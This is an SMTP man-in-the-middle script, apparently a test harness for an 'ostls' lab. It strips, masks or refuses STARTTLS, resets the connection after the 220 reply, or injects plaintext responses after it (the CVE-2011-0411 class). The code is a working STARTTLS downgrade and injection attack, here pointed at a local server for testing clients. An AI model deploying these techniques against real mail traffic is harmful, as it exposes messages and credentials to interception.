#!/usr/bin/env python3
"""SMTP man-in-the-middle for the ostls lab (python3 stdlib only).

    mitm.py --listen PORT --upstream PORT --mode strip|mask|refuse|reset|inject

Sits in front of an SMTP server on 127.0.0.1:UPSTREAM. In the plaintext phase it relays
line by line (complete server replies to the client, client command lines to the server),
tampering according to MODE; once the server has answered STARTTLS with 220 it relays raw
bytes in both directions, so the TLS handshake passes through to the server untouched.

Modes:
  strip   delete the STARTTLS line from EHLO replies (continuation marks fixed up);
          a STARTTLS command sent anyway is forwarded
  mask    replace the keyword STARTTLS by XXXXXXXA in EHLO replies (Cisco PIX style);
          a STARTTLS command sent anyway is forwarded
  refuse  keep STARTTLS advertised, answer the STARTTLS command itself with
          "454 4.7.0 TLS not available due to local problem" and keep relaying
  reset   forward STARTTLS, relay the server's 220, then close both connections
  inject  forward STARTTLS, relay the 220 and append in the same write
          "250-mitm.injected\\r\\n250 AUTH PLAIN\\r\\n" (CVE-2011-0411 class), then raw relay
"""
import argparse
import asyncio
import collections
import re

import common
from common import LOG

MODES = ("strip", "mask", "refuse", "reset", "inject")
IDLE = 300.0           # seconds without traffic before a connection is dropped
MAX_REPLY_LINES = 1000
REFUSAL = b"454 4.7.0 TLS not available due to local problem\r\n"
INJECTED = b"250-mitm.injected\r\n250 AUTH PLAIN\r\n"
STARTTLS_RE = re.compile(rb"STARTTLS", re.IGNORECASE)


def split_line(line):
    """b'250-STARTTLS\\r\\n' -> (b'250', b'STARTTLS', b'\\r\\n')"""
    body = line.rstrip(b"\r\n")
    return body[:3], body[4:], line[len(body):] or b"\r\n"


def strip_starttls(lines):
    kept = [l for l in lines if split_line(l)[1].strip().upper() != b"STARTTLS"]
    if not kept:  # never leave an empty reply
        return lines
    out = []
    for i, l in enumerate(kept):
        code, text, eol = split_line(l)
        out.append(code + (b" " if i == len(kept) - 1 else b"-") + text + eol)
    return out


def mask_starttls(lines):
    out = []
    for l in lines:
        code, text, eol = split_line(l)
        sep = l[3:4] or b" "
        out.append(code + sep + STARTTLS_RE.sub(b"XXXXXXXA", text) + eol)
    return out


def verb_of(line):
    parts = line.split(None, 1)
    return parts[0].upper() if parts else b""


def show(data):
    return data.rstrip(b"\r\n").decode("ascii", "backslashreplace")[:200]


class Session:
    def __init__(self, mode, creader, cwriter, sreader, swriter):
        self.mode = mode
        self.cr, self.cw, self.sr, self.sw = creader, cwriter, sreader, swriter
        self.pending = collections.deque()   # (verb, future-or-None) awaiting a reply
        self.idle = asyncio.Condition()      # notified whenever a reply has been relayed

    async def read_reply(self):
        lines = []
        while len(lines) < MAX_REPLY_LINES:
            line = await asyncio.wait_for(self.sr.readline(), IDLE)
            if not line:
                return lines
            lines.append(line)
            if len(line) < 4 or line[3:4] != b"-":
                return lines
        return lines

    async def server_to_client(self):
        try:
            await self._server_to_client()
        finally:
            self.cw.close()

    async def _server_to_client(self):
        greeting = True
        while True:
            lines = await self.read_reply()
            if not lines:
                LOG.info("server closed the connection")
                return
            verb, fut = (None, None)
            if not greeting and self.pending:
                verb, fut = self.pending.popleft()
            greeting = False
            code = lines[0][:3]
            if verb == b"EHLO" and self.mode == "strip":
                lines = strip_starttls(lines)
            elif verb == b"EHLO" and self.mode == "mask":
                lines = mask_starttls(lines)
            data = b"".join(lines)
            raw = False
            if verb == b"STARTTLS" and code == b"220":
                if self.mode == "inject":
                    data += INJECTED
                    LOG.info("S->C %s + injected %r", show(lines[0]), INJECTED)
                else:
                    LOG.info("S->C %s", show(lines[0]))
                raw = True
            else:
                for l in lines:
                    LOG.info("S->C %s", show(l))
            self.cw.write(data)
            await self.cw.drain()
            if fut is not None and not fut.done():
                fut.set_result(code)
            async with self.idle:
                self.idle.notify_all()
            if raw:
                if self.mode == "reset":
                    LOG.info("reset: closing both connections after the 220")
                    self.cw.close()
                    self.sw.close()
                    return
                LOG.info("switching to raw relay (server -> client)")
                await pump(self.sr, self.cw)
                return

    async def client_to_server(self):
        while True:
            line = await asyncio.wait_for(self.cr.readline(), IDLE)
            if not line:
                LOG.info("client closed the connection")
                if self.sw.can_write_eof():
                    self.sw.write_eof()
                return
            verb = verb_of(line)
            LOG.info("C->S %s", show(line))
            if verb == b"STARTTLS" and self.mode == "refuse":
                async with self.idle:  # keep replies in order: answer after earlier ones
                    await self.idle.wait_for(lambda: not self.pending)
                LOG.info("refuse: answering STARTTLS ourselves: %s", show(REFUSAL))
                self.cw.write(REFUSAL)
                await self.cw.drain()
                continue
            if verb in (b"STARTTLS", b"DATA"):
                fut = asyncio.get_running_loop().create_future()
                self.pending.append((verb, fut))
                self.sw.write(line)
                await self.sw.drain()
                code = await fut
                if verb == b"STARTTLS" and code == b"220":
                    if self.mode == "reset":
                        return
                    LOG.info("switching to raw relay (client -> server)")
                    await pump(self.cr, self.sw)
                    return
                if verb == b"DATA" and code == b"354":
                    await self.relay_message()
                continue
            if verb == b"BDAT":
                self.pending.append((verb, None))
                self.sw.write(line)
                try:
                    size = int(line.split()[1])
                except (IndexError, ValueError):
                    size = 0
                if size > 0:
                    self.sw.write(await asyncio.wait_for(self.cr.readexactly(size), IDLE))
                await self.sw.drain()
                continue
            self.pending.append((verb, None))
            self.sw.write(line)
            await self.sw.drain()

    async def relay_message(self):
        """Message content after 354: relay lines up to the lone '.', which gets one reply."""
        while True:
            line = await asyncio.wait_for(self.cr.readline(), IDLE)
            if not line:
                return
            if line.rstrip(b"\r\n") == b".":
                self.pending.append((b".", None))
                self.sw.write(line)
                await self.sw.drain()
                return
            self.sw.write(line)
            await self.sw.drain()


async def pump(reader, writer):
    """Raw relay until EOF, which is passed on as a half-close."""
    try:
        while True:
            data = await asyncio.wait_for(reader.read(65536), IDLE)
            if not data:
                break
            writer.write(data)
            await writer.drain()
        if writer.can_write_eof():
            writer.write_eof()
        else:
            writer.close()
    except BaseException:
        writer.close()
        raise


def main():
    ap = argparse.ArgumentParser(description="SMTP man-in-the-middle for the ostls lab")
    ap.add_argument("--listen", type=int, required=True)
    ap.add_argument("--upstream", type=int, required=True, help="port on 127.0.0.1")
    ap.add_argument("--mode", choices=MODES, required=True)
    common.add_common_args(ap, "mitm")
    args = ap.parse_args()
    if args.name == "mitm":
        args.name = f"mitm-{args.mode}"
    common.setup(args)

    async def handle(creader, cwriter):
        try:
            sreader, swriter = await asyncio.wait_for(
                asyncio.open_connection("127.0.0.1", args.upstream), 10)
        except (OSError, asyncio.TimeoutError) as e:
            LOG.info("upstream 127.0.0.1:%d unavailable: %s", args.upstream, e)
            cwriter.write(b"421 4.3.0 mitm: upstream unavailable\r\n")
            await cwriter.drain()
            return
        s = Session(args.mode, creader, cwriter, sreader, swriter)
        s2c = asyncio.create_task(s.server_to_client())
        c2s = asyncio.create_task(s.client_to_server())
        try:
            done, _ = await asyncio.wait({s2c, c2s}, return_when=asyncio.FIRST_COMPLETED)
            if c2s in done and not c2s.cancelled() and c2s.exception() is None:
                # Client EOF was passed on as a half-close (or the mode ended the client
                # side): the server decides when the session is over.
                await asyncio.wait({s2c}, timeout=IDLE)
            elif s2c in done:
                # s2c closed the client connection; let c2s see the EOF, then stop it.
                await asyncio.wait({c2s}, timeout=1)
            for t in (s2c, c2s):
                if t.done() and not t.cancelled() and t.exception() is not None:
                    LOG.info("relay ended: %s: %s", type(t.exception()).__name__,
                             t.exception())
        finally:
            for t in (s2c, c2s):
                t.cancel()
            await asyncio.gather(s2c, c2s, return_exceptions=True)
            swriter.close()
            cwriter.close()

    common.run(common.serve(args, args.listen, handle))


if __name__ == "__main__":
    main()
